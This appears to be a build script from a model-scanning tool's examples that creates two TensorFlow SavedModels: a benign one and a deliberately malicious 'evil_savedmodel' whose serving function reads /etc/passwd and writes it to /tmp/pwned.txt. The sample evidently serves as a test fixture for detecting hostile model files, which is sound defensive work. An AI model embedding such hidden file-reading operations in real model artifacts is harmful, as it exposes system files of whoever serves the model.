"""Rebuild the bundled example SavedModels (needs TensorFlow): python examples/build_examples.py

evil_savedmodel reads /etc/passwd and writes /tmp/pwned.txt from its serving signature;
dense_savedmodel is a harmless twin (a tf.cond on a variable, tf.print to stderr).
"""
import tensorflow as tf, os
class Evil(tf.Module):
    def __init__(self):
        self.w = tf.Variable([[1.0], [2.0]])
    @tf.function(input_signature=[tf.TensorSpec([None, 2], tf.float32)])
    def serve(self, x):
        secret = tf.io.read_file("/etc/passwd")          # exfiltrates a host file
        tf.io.write_file("/tmp/pwned.txt", secret)        # and drops one
        return {"y": tf.matmul(x, self.w)}
class Benign(tf.Module):
    def __init__(self):
        self.w = tf.Variable([[1.0], [2.0]])
        self.flag = tf.Variable(True)
    @tf.function(input_signature=[tf.TensorSpec([None, 2], tf.float32)])
    def serve(self, x):
        y = tf.cond(self.flag, lambda: tf.matmul(x, self.w), lambda: tf.zeros([tf.shape(x)[0], 1]))
        tf.print("batch", tf.shape(x)[0])  # to stderr: fine
        return {"y": y}
for name, cls in [("evil_savedmodel", Evil), ("dense_savedmodel", Benign)]:
    m = cls(); tf.saved_model.save(m, os.path.join(os.path.dirname(os.path.abspath(__file__)), "models", name), signatures={"serving_default": m.serve})
